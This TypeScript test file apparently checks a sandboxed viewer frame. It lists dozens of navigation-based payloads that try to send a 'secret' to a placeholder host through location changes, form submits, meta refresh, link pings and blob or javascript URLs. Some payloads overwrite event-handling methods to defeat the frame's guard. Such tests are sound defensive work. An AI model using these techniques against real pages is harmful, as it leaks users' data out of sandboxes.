import { family, inHtml, inScript } from './vector.ts';

const TARGET = 'style="position:fixed;inset:0;width:100%;height:100%"';

/**
 * A frame that goes elsewhere carries data out in the address. The scripts wait a moment, as a
 * careful attacker would, so that the start is over.
 */
export const navigation = family(
  'navigation',
  { expected: 'contained', wait: 2_200 },
  {
    ...inScript({
      'location assignment': `setTimeout(() => { location = '%H%/x.html?secret' }, 300)`,
      'location at once': `location = '%H%/x.html?secret'`,
      'location.href': `setTimeout(() => { location.href = '%H%/x.html?secret' }, 300)`,
      'location.replace': `setTimeout(() => location.replace('%H%/x.html?secret'), 300)`,
      'location.assign': `setTimeout(() => location.assign('%H%/x.html?secret'), 300)`,
      'location parts': `setTimeout(() => { location.host = '%N%'; }, 300); setTimeout(() => { location.protocol = 'http:' }, 500); setTimeout(() => { location = '%H%/y.html' }, 600)`,
      'location.search of the viewer': `setTimeout(() => { location.search = 'secret' }, 300); setTimeout(() => { location = '%H%/y.html' }, 500)`,
      'navigation API': `setTimeout(() => { try { navigation.navigate('%H%/x.html?secret').finished.catch(() => {}) } catch { location = '%H%/y.html' } }, 300)`,
      'window.open onto itself': `setTimeout(() => open('%H%/x.html?secret', '_self'), 300)`,
      'window.open onto its name': `name = 'me'; setTimeout(() => open('%H%/x.html?secret', 'me'), 300)`,
      'meta refresh added': `setTimeout(() => document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=%H%/x.html">'), 300)`,
      'form submit': `const f = document.createElement('form'); f.action = '%H%/x.html'; document.body.append(f); setTimeout(() => f.submit(), 300)`,
      'form post': `const f = document.createElement('form'); f.action = '%H%/x.html'; f.method = 'post'; f.innerHTML = '<input name=a value=secret>'; document.body.append(f); setTimeout(() => f.requestSubmit(), 300)`,
      'form post to its name': `name = 'me'; const f = document.createElement('form'); f.action = '%H%/x.html'; f.target = 'me'; document.body.append(f); setTimeout(() => HTMLFormElement.prototype.submit.call(f), 300)`,
      'link click by script': `const a = document.createElement('a'); a.href = '%H%/x.html'; document.body.append(a); setTimeout(() => a.click(), 300)`,
      'link click that is not in the page': `const a = document.createElement('a'); a.href = '%H%/x.html'; setTimeout(() => a.click(), 300)`,
      'link click by an event': `const a = document.createElement('a'); a.href = '%H%/x.html'; document.body.append(a); setTimeout(() => a.dispatchEvent(new MouseEvent('click')), 300)`,
      'link in a closed shadow root': `const d = document.createElement('div'); document.body.append(d); const r = d.attachShadow({ mode: 'closed' }); r.innerHTML = '<a href="%H%/x.html">a</a>'; setTimeout(() => r.firstChild.click(), 300)`,
      'svg link': `document.body.innerHTML += '<svg><a href="%H%/x.html"><text y="20">a</text></a></svg>'; setTimeout(() => document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true })), 300)`,
      'area of a map': `document.body.innerHTML += '<map name=m><area href="%H%/x.html"></map>'; setTimeout(() => document.querySelector('area').click(), 300)`,
      'link with ping': `const a = document.createElement('a'); a.href = '#x'; a.ping = '%H%/x'; document.body.append(a); a.click(); new Image().src = '%H%/y'`,
      'link with ping and a javascript address': `const a = document.createElement('a'); a.href = 'javascript:void 0'; a.ping = '%H%/x'; document.body.append(a); a.click(); new Image().src = '%H%/y'`,
      'link with attributionsrc': `const a = document.createElement('a'); a.href = '%H%/x.html'; a.setAttribute('attributionsrc', '%H%/a'); document.body.append(a); setTimeout(() => a.click(), 300)`,
      'download link': `const a = document.createElement('a'); a.href = '%H%/x.bin'; a.download = 'x'; document.body.append(a); setTimeout(() => a.click(), 300)`,
      'iframe of itself as a target': `setTimeout(() => { const a = document.createElement('a'); a.href = '%H%/x.html'; a.target = '_parent'; document.body.append(a); a.click(); location = '%H%/y.html' }, 300)`,
      'javascript address': `setTimeout(() => { location = "javascript:'<img src=%H%/x.png>'" }, 300)`,
      'data address': `setTimeout(() => { location = 'data:text/html,<img src=%H%/x.png>' }, 300); setTimeout(() => { new Image().src = '%H%/y' }, 600)`,
      'blob address': `setTimeout(() => { location = URL.createObjectURL(new Blob(['<img src=%H%/x.png>'], { type: 'text/html' })) }, 300); setTimeout(() => { new Image().src = '%H%/y' }, 600)`,
      'blob address of SVG': `setTimeout(() => { location = URL.createObjectURL(new Blob(['<svg xmlns="http://www.w3.org/2000/svg"><image href="%H%/x.png"/></svg>'], { type: 'image/svg+xml' })) }, 300)`,
      'blob address that goes on': `setTimeout(() => { location = URL.createObjectURL(new Blob(['<script>location="%H%/x.html"<\\/script>'], { type: 'text/html' })) }, 300)`,
      'about:blank': `setTimeout(() => { location = 'about:blank' }, 300); new Image().src = '%H%/y'`,
      'about:srcdoc': `setTimeout(() => { location = 'about:srcdoc' }, 300); new Image().src = '%H%/y'`,
      'view-source': `setTimeout(() => { location = 'view-source:%H%/x.html'; }, 300); setTimeout(() => { location = '%H%/y.html' }, 400)`,
      'a program of the system': `setTimeout(() => { location = 'mailto:secret@%N%' }, 300); new Image().src = '%H%/y'`,
      reload: `setTimeout(() => location.reload(), 300); new Image().src = '%H%/y'`,
      'the viewer in the frame': `setTimeout(() => { location = '%V%' }, 300); new Image().src = '%H%/y'`,
      'the frame page again': `setTimeout(() => { location = '%V%capsule-frame.html' }, 300); new Image().src = '%H%/y'`,
      'the frame page again with data': `setTimeout(() => { location = '%V%capsule-frame.html?secret' }, 300); new Image().src = '%H%/y'`,
      'another file of the viewer': `setTimeout(() => { location = '%V%assets/' }, 300); new Image().src = '%H%/y'`,
      'document.open and a refresh': `setTimeout(() => { document.open(); document.write('<meta http-equiv=refresh content="0;url=%H%/x.html">'); document.close() }, 300)`,
      'document.write of a whole page': `setTimeout(() => { document.open(); document.write('<img src=%H%/x.png><script src=%H%/x.js><\\/script>'); document.close() }, 300)`,
      'a navigation by the parent': `setTimeout(() => { try { parent.frames[0].location = '%H%/x.html' } catch { self.location = '%H%/y.html' } }, 300)`,
      'many at once': `setInterval(() => { location = '%H%/x.html?' + Math.random() }, 50)`,
      'navigation during the start': `document.addEventListener('DOMContentLoaded', () => { location = '%H%/x.html' })`,
      'navigation at load': `addEventListener('load', () => { location = '%H%/x.html' })`,
    }),
    ...inHtml({
      'meta refresh': '<meta http-equiv="refresh" content="0;url=%H%/x.html">',
      'meta refresh in the text': '<p>a<meta http-equiv="refresh" content="1;url=%H%/x.html">',
      'meta refresh to data': `<meta http-equiv="refresh" content="0;url=data:text/html,<img src=%H%/x.png>"><img src="%H%/y.png">`,
    }),
    'a link that is clicked': { html: `<a ${TARGET} href="%H%/x.html">a</a>`, press: 'left' },
    'a link with a base': {
      html: `<base href="%H%/"><a ${TARGET} href="x.html">a</a>`,
      press: 'left',
    },
    'a link without the guard': {
      html: `<a ${TARGET} href="%H%/x.html">a</a>`,
      javascript: `addEventListener('mousedown', () => { document.querySelector('a').addEventListener('click', (e) => { e.preventDefault = () => {} }) }); Element.prototype.matches = () => false; Event.prototype.composedPath = () => []`,
      press: 'left',
    },
    'a form that is sent by a click': {
      html: `<form action="%H%/x.html"><input name="a" value="secret"><button ${TARGET}>a</button></form>`,
      press: 'left',
    },
    'a button with an address of its own': {
      html: `<form><button ${TARGET} formaction="%H%/x.html" formmethod="post">a</button></form>`,
      press: 'left',
    },
    'a form without the guard': {
      html: `<form action="%H%/x.html" method="post"><button ${TARGET}>a</button></form>`,
      javascript: `Event.prototype.preventDefault = () => {}`,
      press: 'left',
    },
    'a form that closes a dialog': {
      html: `<dialog open><form method="dialog" action="%H%/x.html"><button ${TARGET} formmethod="get" formaction="%H%/x.html">a</button></form></dialog>`,
      press: 'left',
    },
    'an svg link that is clicked': {
      html: `<svg ${TARGET}><a href="%H%/x.html"><rect width="900" height="900"/></a></svg>`,
      press: 'left',
    },
    'a link with ping that is clicked': {
      html: `<a ${TARGET} href="#x" ping="%H%/x">a</a>`,
      press: 'left',
      expected: 'silent',
    },
    'a MathML link that is clicked': {
      html: `<math><mrow href="%H%/x.html"><mtext><b ${TARGET}>a</b></mtext></mrow></math><img src="%H%/y.png">`,
      press: 'left',
    },
  },
);
